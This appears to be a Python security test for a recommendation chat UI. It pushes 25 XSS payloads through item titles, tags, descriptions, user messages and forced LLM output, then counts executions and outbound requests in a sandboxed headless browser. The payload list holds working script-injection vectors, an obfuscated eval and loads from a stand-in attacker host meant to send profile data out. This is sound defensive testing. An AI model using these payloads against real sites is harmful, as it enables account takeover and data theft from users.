"""Hostile HTML in the chat UI: XSS payloads as item titles, descriptions, tags, user messages and LLM output.

Each payload, if it ran, would set `window.__xss` and/or open an `alert`, and most also try to load
something from `attacker.example`. The page runs in Debian's headless Chromium (Playwright drives it; no
`playwright install`): a dialog handler and the global flag count executions, and a request listener
counts every request to a host other than the server's (those are aborted, so nothing leaves the box).

The LLM here is a forced-output double: every explanation it is asked for is the round's payload, so
whatever of it survives the explanation checker reaches the page.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlparse

import httpx
from recassist.assistant.llm.base import LLMClient
from recassist.foundation.errors import LLMError
from robust_harness import Tally

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]
HIT = "window.__xss=1;alert(1)"
EXFIL = "http://attacker.example/x"

_VECTORS = [
    f"<script>{HIT}</script>",
    f"<img src=x onerror=\"{HIT}\">",
    f"<svg onload=\"{HIT}\">",
    f"<svg><script>{HIT}</script></svg>",
    f"<a href=\"javascript:{HIT}\">click</a>",
    f"[click](javascript:{HIT})",
    f"![x]({EXFIL}?d=profile)",
    f"<iframe src=\"javascript:{HIT}\"></iframe>",
    f"<body onload=\"{HIT}\">",
    f"<details open ontoggle=\"{HIT}\">",
    f"<img src=\"{EXFIL}.png\">",
    f"<math><mtext><img src=x onerror=\"{HIT}\"></mtext></math>",
    f"\"><script>{HIT}</script>",
    f"'><img src=x onerror='{HIT}'>",
    f"<style>@import '{EXFIL}.css';</style>",
    f"<input autofocus onfocus=\"{HIT}\">",
    f"<video><source onerror=\"{HIT}\"></video>",
    f"<object data=\"javascript:{HIT}\"></object>",
    f"<embed src=\"javascript:{HIT}\">",
    f"<link rel=stylesheet href=\"{EXFIL}.css\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{HIT}\">",
    f"<form action=\"javascript:{HIT}\"><button>go</button></form>",
    f"<svg><a xlink:href=\"javascript:{HIT}\"><text>x</text></a></svg>",
    "<img src=1 onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>",
    f"[x]({EXFIL})<img src=x onerror={HIT}>",
]
_WRAPS = ["{v}", "Great film {v} really"]


def payloads() -> list[str]:
    """50 payloads: 25 vectors, bare and inside ordinary text."""
    return [w.replace("{v}", v) for w in _WRAPS for v in _VECTORS]


class PayloadLLM(LLMClient):
    """Forced-output double: explanations are the payload it holds; JSON requests fail (a degraded turn)."""

    backend = "payload"
    judgement_weight = 0.0

    def __init__(self) -> None:
        super().__init__("payload", max_reasks=0)
        self.payload = ""

    def complete(self, messages, *, json_schema=None, max_tokens=256, timeout_s=None) -> str:
        if json_schema is not None:
            raise LLMError("payload double answers no JSON", backend=self.backend, model=self.model)
        return self.payload


class XssResult(Tally):
    COUNTS = ("payloads", "placements", "executed", "dialogs", "external_requests", "rendered_checks")

    def __init__(self, **counts: int) -> None:
        super().__init__(**counts)
        self.external_hosts: set[str] = set()


def run_xss(base_url: str, llm: PayloadLLM, items: list[str], *, per_round: int = 5, timeout_ms: int = 120_000
            ) -> XssResult:
    """Put `items` (payloads) through the UI `per_round` at a time; counts executions and external requests."""
    from playwright.sync_api import sync_playwright

    result = XssResult(payloads=len(items))
    local = urlparse(base_url).netloc
    with sync_playwright() as pw, httpx.Client(base_url=base_url, timeout=120) as api:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        page = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
        page.set_default_timeout(timeout_ms)
        page.add_init_script("window.__xss = 0;")

        def on_dialog(d) -> None:
            result.dialogs += 1
            d.dismiss()

        def on_route(route) -> None:
            host = urlparse(route.request.url).netloc
            if host and host != local:
                result.external_requests += 1
                result.external_hosts.add(host)
                route.abort()
            else:
                route.continue_()

        page.on("dialog", on_dialog)
        page.route("**/*", on_route)
        page.goto(f"{base_url}/ui/")
        page.wait_for_selector("#chat .message")
        for start in range(0, len(items), per_round):
            batch = items[start:start + per_round]
            ids = [f"xss{start + i}" for i in range(len(batch))]
            for item_id, p in zip(ids, batch, strict=True):
                body = {"title": p[:500], "year": 2030, "genres": ["Sci-Fi"], "tags": [p[:200]], "description": p}
                r = api.put(f"/v1/items/{item_id}", json=body)
                result.placements += 3 if r.status_code == 200 else 0
            llm.payload = batch[0]
            message = f"{batch[-1]} something sci-fi, only movies from 2030 or later"
            page.fill("#message textarea", message)
            page.press("#message textarea", "Enter")
            result.placements += 2  # the user message and the forced LLM output
            page.wait_for_selector("#card-1 .rc-card")
            page.wait_for_timeout(1500)  # explanations stream in after the list
            shown = page.inner_text("#cards")
            result.rendered_checks += sum(1 for p in batch if p[:30] in shown)
            page.click("#card-1-like")  # the liked title moves into the profile panel
            page.wait_for_timeout(1000)
            if page.evaluate("window.__xss") != 0:
                result.executed += 1
                result.examples.append(f"flag set after round {start // per_round}: {batch}")
                page.evaluate("window.__xss = 0")
            for item_id in ids:
                api.delete(f"/v1/items/{item_id}")
        browser.close()
    return result
